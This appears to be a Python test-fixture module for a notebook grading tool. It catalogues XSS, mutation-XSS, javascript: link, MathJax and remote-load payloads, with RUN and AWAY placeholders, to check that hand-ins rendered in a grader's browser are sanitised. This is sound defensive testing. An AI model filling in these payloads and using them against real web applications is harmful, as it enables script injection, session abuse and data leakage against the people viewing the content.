"""What somebody may write into a hand-in to run something, or load something, in the browser of whoever reads it.

`RUN` stands for a program that leaves a trace with the trick's name, `AWAY` for an address outside with its name too.
"""

from __future__ import annotations

import re
from html import escape

from tests.browser.shown import OUTPUTS, STREAMS, TEXTS
from tests.browser.watch import named
from tests.hostile.notebooks import MARKUP as CORPUS

# Raw HTML in Markdown.
MARKUP = {
    "handler-slash": "<img/src=x/onerror=RUN>",
    "handler-newline": "<img\nsrc=x\nonerror\n=\nRUN>",
    "handler-upper": "<IMG SRC=x OnErRoR=RUN>",
    "handler-tab": "<img\tsrc=x\tonerror=RUN>",
    "handler-formfeed": "<img\x0csrc=x\x0conerror=RUN>",
    "handler-quote": '<img alt="`><img src=x onerror=RUN>">',
    "handler-entity": '<img src=x onerror="&#119;indow.canary_handler_entity=1">',
    "handler-custom": "<x-y onclick=RUN tabindex=1 onfocus=RUN autofocus>x</x-y>",
    "handler-plain-tag": "<b onmouseover=RUN onclick=RUN>hover</b>",
    "handler-animation": "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=RUN>x</b>",
    "handler-body": "<body onload=RUN onpageshow=RUN>",
    "handler-marquee": "<marquee onstart=RUN>x</marquee>",
    "handler-audio": "<audio src=x onerror=RUN></audio><video><source onerror=RUN></video>",
    "handler-input": "<input onfocus=RUN autofocus><select onfocus=RUN autofocus></select>",
    "handler-keygen": "<textarea onfocus=RUN autofocus></textarea>",
    "handler-dialog": "<dialog open onclose=RUN><form method=dialog><button>close</button></form></dialog>",
    "handler-popover": "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=RUN>x</div>",
    "handler-visible": "<p style='content-visibility:auto' oncontentvisibilityautostatechange=RUN>x</p>",
    "script-type": "<script type=text/javascript>RUN</script>",
    "script-module": "<script type=module>RUN</script>",
    "script-away": "<script src=AWAY/x.js></script>",
    "script-slash": "<script/x>RUN</script >",
    "script-data": "<script src='data:text/javascript,RUN'></script>",
    "script-blank": "<script>\n\nRUN\n\n</script>",
    "script-svg": "<svg><script>RUN</script></svg>",
    "script-svg-href": "<svg><script href='data:text/javascript,RUN' /></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values='javascript:RUN'/><text x=9 y=9>click</text></a></svg>",
    "svg-set": "<svg><a xlink:href=x><set attributeName=xlink:href to='javascript:RUN'/><text y=9>c</text></a></svg>",
    "svg-use": "<svg><use href='AWAY/x.svg#x' /><image href='AWAY/i.png' /></svg>",
    "svg-foreign": "<svg><foreignObject><iframe srcdoc='<script>parent.RUN</script>'></iframe></foreignObject></svg>",
    "math-link": "<math><mtext href='javascript:RUN'>click</mtext></math>",
    "math-action": "<math><maction actiontype='statusline#AWAY'><mi href='javascript:RUN'>x</mi></maction></math>",
    "mxss-math-style": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
    "mxss-svg-style": '<svg></p><style><a title="</style><img src=1 onerror=RUN>">',
    "mxss-noscript": '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    "mxss-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    "mxss-select": "<select><template><img src=x onerror=RUN></template></select>",
    "mxss-option": "<option><style></option></select><img src=x onerror=RUN></style>",
    "mxss-annotation": "<math><annotation-xml encoding='text/html'><style><img src=x onerror=RUN></style>"
    "</annotation-xml></math>",
    "mxss-noembed": "<noembed><img title='</noembed><img src=x onerror=RUN>'></noembed>",
    "mxss-title": "<title><img title='</title><img src=x onerror=RUN>'></title>",
    "mxss-iframe": "<iframe><img title='</iframe><img src=x onerror=RUN>'></iframe>",
    "mxss-nested": "<b><a><b><table><a></b><img src=x onerror=RUN></a>",
    "break-attribute": '[x](http://example.org/"onmouseover=RUN//)',
    "break-title": '[x](http://example.org "t\\" onmouseover=RUN x=\\"")',
    "break-alt": '![" onerror=RUN x="](x)',
    "break-code": "`</code><img src=x onerror=RUN>`",
    "break-info": '```x" onmouseover=RUN y="\nx\n```',
    "break-table": "| a |\n|---|\n| <img src=x onerror=RUN> |",
    "break-details": "<details open><summary><img src=x onerror=RUN></summary></details>",
    "break-list": "- <div>\n\n  <img src=x onerror=RUN>\n\n  </div>",
    "break-quote": "> <img src=x\n> onerror=RUN>",
    "break-line": "<img src=x\n\nonerror=RUN>",
    "break-instruction": "<?x <img src=x onerror=RUN> ?>",
    "break-declaration": "<!x <img src=x onerror=RUN>>",
    "break-comment-bang": "<!-- --!><img src=x onerror=RUN> -->",
    "break-comment-dash": "<!-->\n<img src=x onerror=RUN>-->",
    "break-processing": "<![CDATA[ ><img src=x onerror=RUN> ]]>",
    "null-byte": "<scr\x00ipt>RUN</scr\x00ipt><img src=x onerr\x00or=RUN>",
    "load-image": "<img src='AWAY/pixel.png'>",
    "load-protocol-free": "<img src='//away.invalid/load-protocol-free'>",
    "load-backslash": "<img src='\\\\away.invalid\\load-backslash'>",
    "load-srcset": "<img srcset='AWAY/x.png 2x'><picture><source srcset='AWAY/p.png'><img></picture>",
    "load-lazy": "<img loading=eager importance=high src=AWAY/lazy.png>",
    "load-background": "<table background='AWAY/table.png'><tr><td background='AWAY/td.png'>x</td></tr></table>",
    "load-style": '<div style="background-image:url(AWAY/style.png)">x</div>',
    "load-style-set": "<div style=\"background:image-set('AWAY/set.png' 1x)\">x</div>",
    "load-style-escape": '<div style="background:\\75\\72\\6c(AWAY/escape.png)">x</div>',
    "load-style-entity": "<b s&#116;yle=x style='background:u&#114;l(AWAY/entity.png)'>x</b>",
    "load-style-mask": '<div style="mask:url(AWAY/m.svg#x);filter:url(AWAY/f.svg#x);cursor:url(AWAY/c),auto">x</div>',
    "load-font": "<style>@font-face{font-family:x;src:url(AWAY/font)} p{font-family:x}</style>",
    "load-import": "<style>@import url('AWAY/import.css');</style>",
    "load-preload": "<link rel=preload as=image href='AWAY/preload'><link rel=prefetch href='AWAY/prefetch'>",
    "load-preconnect": "<link rel=dns-prefetch href='//away.invalid'><link rel=preconnect href='AWAY/'>",
    "load-manifest": "<link rel=manifest href='AWAY/manifest'><link rel=icon href='AWAY/icon.png'>",
    "load-media": "<video poster='AWAY/poster.png'></video><audio src='AWAY/a.ogg'></audio><track src='AWAY/t'>",
    "load-frame": "<frameset><frame src='AWAY/frame'></frameset><iframe src='AWAY/iframe'></iframe>",
    "load-fenced": "<fencedframe src=AWAY></fencedframe><portal src=AWAY></portal>",
    "load-object": "<object data='AWAY/o'></object><embed src='AWAY/e'><applet code='AWAY/a'></applet>",
    "load-input": "<input type=image src='AWAY/input.png'>",
    "load-body": "<body background='AWAY/body.png'>",
    "go-refresh": "<meta http-equiv=refresh content='0;url=AWAY/refresh'>",
    "go-refresh-javascript": "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "go-base": "<base href='AWAY/'><a href=x>click</a>",
    "go-form": "<form action='AWAY/form' id=f><input type=submit></form><button form=f formaction='AWAY/b'>x</button>",
    "go-ping": "<a href='#' ping='AWAY/ping'>click</a>",
    "go-download": "<a href='data:application/octet-stream,x' download='x.exe'>click</a>",
    "go-target": "<a href='AWAY/opener' target=opener>click</a>",
    "page-tooltip": '<span class="glyphicon name-hidden" data-html="true" title="<img src=x onerror=RUN>">hover</span>',
    "page-tooltip-entity": '<span class="glyphicon name-shown" data-html="true" '
    'title="&lt;img src&#61;x one&#114;ror&#61;RUN&gt;">hover</span>',
    "page-toggle": "<b data-toggle=collapse data-target='<img src=x onerror=RUN>'>click</b>",
    "page-toggle-entity": '<b data-toggle="collapse" data-target="&lt;img src&#61;x one&#114;ror&#61;RUN&gt;">x</b>',
    "page-modal": '<b data-toggle="modal" data-remote="AWAY/modal" data-target="#notebook">click</b>',
    "page-link": '<b data-link="//away.invalid/page-link">click</b>',
    "page-command": '<b data-commandlinker-command="application:close" data-commandlinker-args="{}">click</b>',
    "page-click": '<b class="mark-graded full-credit btn tabbable">click</b>',
    "page-clobber": "<a id=MathJax name=formgrader href=#x>x</a><b id=submission_id>x</b>",
    "page-mathjax": '<script type="text/x-mathjax-config">RUN</script>',
    "page-mathml": "<script type='math/mml'><math><mi href='javascript:RUN'>x</mi></math></script>",
    "page-mermaid": '<pre class="mermaid">graph TD\nA["<img src=x onerror=RUN>"]\nclick A href "javascript:RUN"</pre>',
    "page-cover": "<div style='position:fixed;inset:0;z-index:9999'><a href='javascript:RUN'>click</a></div>",
}

# Links, in all the ways in which Markdown makes them.
LINKS = {
    "link-case": "[click](JaVaScRiPt:RUN)",
    "link-angle": "[click](<javascript:RUN>)",
    "link-angle-space": "[click](< javascript:RUN>)",
    "link-control": "[click](<\x01javascript:RUN>)",
    "link-tab": "[click](<java\tscript:RUN>)",
    "link-percent": "[click](javascript%3ARUN) [click](%6aavascript:RUN)",
    "link-entity-hex": "[click](&#x6A;avascript:RUN)",
    "link-entity-zeros": "[click](&#0000106;avascript:RUN)",
    "link-entity-colon": "[click](javascript&colon;RUN)",
    "link-entity-newline": "[click](java&NewLine;script:RUN)",
    "link-entity-twice": "[click](&amp;#106;avascript:RUN)",
    "link-escape": r"[click](java\script:RUN) [click](javascript&#92;:RUN)",
    "link-soft-hyphen": "[click](java\u00adscript:RUN)",
    "link-zero-width": "[click](java\u200bscript:RUN)",
    "link-byte-order": "[click](\ufeffjavascript:RUN)",
    "link-fullwidth": "[click](\uff4aavascript:RUN)",
    "link-files": "[click](files/javascript:RUN)",
    "link-files-angle": "[click](</files/javascript:RUN>)",
    "link-files-twice": "[click](files/files/javascript:RUN)",
    "link-reference": "[click]\n\n[click]: javascript:RUN",
    "link-reference-break": "[click][a]\n\n[a]:\n  <javascript:RUN>\n  'title'",
    "link-reference-entity": "[click][b]\n\n[b]: &#106;&#97;vascript:RUN",
    "link-autolink": "<javascript:RUN>",
    "link-autolink-entity": "<javascript&colon;RUN>",
    "link-data-html": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link-data-entity": "[click](dat&#97;:text/html,<script>RUN</script>)",
    "link-data-svg": "[click](data:image/svg+xml,<svg onload=RUN>)",
    "link-blob": "[click](blob:null/x)",
    "link-file": "[click](file:///etc/passwd)",
    "link-vbscript": "[click](vb&#115;cript:RUN)",
    "link-view-source": "[click](view-source:javascript:RUN)",
    "link-livescript": "[click](livescript:RUN) [click](mocha:RUN) [click](jar:RUN) [click](feed:javascript:RUN)",
    "link-editor": "[click](vscode://x) [click](ms-msdt:x) [click](search-ms:x) [click](tel:1)",
    "link-html": '<a href="javascript:RUN">click</a>',
    "link-html-entity": '<a href="&#106;avascript&#58;RUN">click</a>',
    "link-html-newline": '<a href="java\nscript:RUN">click</a>',
    "link-html-control": '<a href="&#1;&#14; javascript:RUN">click</a>',
    "link-html-files": '<a href="files/javascript:RUN">click</a>',
    "link-html-area": "<map name=m><area href='javascript:RUN' shape=default></map><img usemap=#m>",
    "link-html-xlink": '<a xlink:href="javascript:RUN">click</a>',
    "link-html-action": '<form><button formaction="javascript:RUN">click</button></form>',
    "link-image": "[![x](AWAY/x.png)](javascript:RUN)",
    "link-nested": "[a [b](javascript:RUN) c](javascript:RUN)",
    "link-server": "[click](/formgrader/manage_students/%22;RUN;%22)",
    "link-server-up": "[click](../../../../../formgrader/gradebook/%22;RUN;%22)",
    "link-server-config": "[click](/formgrader?path=submitted/files/01-sample)",
    "link-server-logout": "[click](/logout)",
    "link-files-page": "[click](/files/submitted/files/01-sample/page.html)",
    "image-plain": "![x](AWAY/x.png)",
    "image-reference": "![x]\n\n[x]: AWAY/x.png",
    "image-reference-full": "![a][pixel]\n\n[pixel]: <AWAY/x.png> 'x'",
    "image-entity": "&#33;[x](AWAY/x.png) !&#91;x](AWAY/y.png)",
    "image-escape": "\\![x](AWAY/x.png) !\\[x](AWAY/y.png)",
    "image-split": "!\\\n[x](AWAY/x.png)",
    "image-javascript": "![x](javascript:RUN)",
    "image-data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "image-attachment": "![x](attachment:x.svg)",
    "image-attachment-missing": "![x](attachment:missing.png)",
    "image-in-link": "[![x][p]](AWAY/l)\n\n[p]: AWAY/p.png",
    "image-definition": "term\n: ![x](AWAY/x.png)",
    "image-in-table": "| a |\n|---|\n| ![x](AWAY/x.png) |",
    "image-relative": "![x](../../../../formgrader/static/x) ![x](/logout)",
}

# Formulas, which MathJax makes into markup.
MATH = {
    "math-href": r"$\href{javascript:RUN}{click}$",
    "math-href-block": "$$\n\\href{javascript:RUN}{click}\n$$",
    "math-href-newline": "$\\href\n{javascript:RUN}{click}$",
    "math-href-split": r"$\def\x{href}\csname href\endcsname{javascript:RUN}{click}$",
    "math-href-let": r"$\let\x=\href \x{javascript:RUN}{click}$",
    "math-href-away": r"$\href{AWAY/math}{click}$",
    "math-url": r"$\url{javascript:RUN}$",
    "math-unicode": r"$\unicode[<img src=x onerror=RUN>]{65}$ $\unicode{x3c}script\unicode{x3e}$",
    "math-require": r"$\require{html}\href{javascript:RUN}{click}\style{background:url(AWAY/style)}{x}$",
    "math-html": r"$\htmlData{command=x}{x} \htmlClass{mark-graded}{x} \htmlStyle{background:url(AWAY/s)}{x}$",
    "math-class": r"$\class{mark-graded}{x}\cssId{submission_id}{y}\style{position:fixed}{z}$",
    "math-graphics": r"$\includegraphics{AWAY/graphics.png}$",
    "math-text": r"$\text{<img src=x onerror=RUN>}$",
    "math-mmltoken": r"$\mmlToken{mi}[href='javascript:RUN']{x}$",
    "math-break": "$</script></span><img src=x onerror=RUN>$",
    "math-environment": "\\begin{equation}<img src=x onerror=RUN>\\href{javascript:RUN}{click}\\end{equation}",
    "math-environment-name": "\\begin{x}<script>RUN</script>\\end{x}",
    "math-bracket": r"\\[ <img src=x onerror=RUN> \\href{javascript:RUN}{click} \\]",
    "math-paren": r"\\( <img src=x onerror=RUN> \\href{javascript:RUN}{click} \\)",
    "math-code": "    $$<img src=x onerror=RUN>$$",
    "math-fence": "```\n$$<img src=x onerror=RUN>$$\n```",
    "math-across": "`$` <img src=x onerror=RUN> `$`",
}


def _corpus() -> dict[str, str]:
    """The corpus' own markup, made to say its name."""
    found = {}
    for name, text in CORPUS.items():
        text = text.replace("top.canary=1", "parent.RUN").replace("window.top.canary=1", "RUN")
        text = re.sub(r"window\.(?:parent\.)?canary(?:=1)?", "RUN", text.replace("window.parent.RUN", "parent.RUN"))
        found[f"corpus-{name}"] = text.replace("http://127.0.0.1:9", "AWAY")
    return found


def _all(tricks: dict[str, str]) -> dict[str, str]:
    return {name: named(name, text) for name, text in tricks.items()}


CELLS: dict[str, dict[str, str]] = {
    "markup": _all({**_corpus(), **MARKUP}),
    "links": _all(LINKS),
    "formulas": _all(MATH),
}
"""Text cells, by hand-in."""
# Shown as text, a trick must not come to life again: what a sanitiser escapes, escaped once more.
CELLS["escaped"] = {f"escaped-{name}": escape(text) for name, text in _all(MARKUP).items()}
COUNT = sum(map(len, CELLS.values())) + len(OUTPUTS) + len(STREAMS) + len(TEXTS)
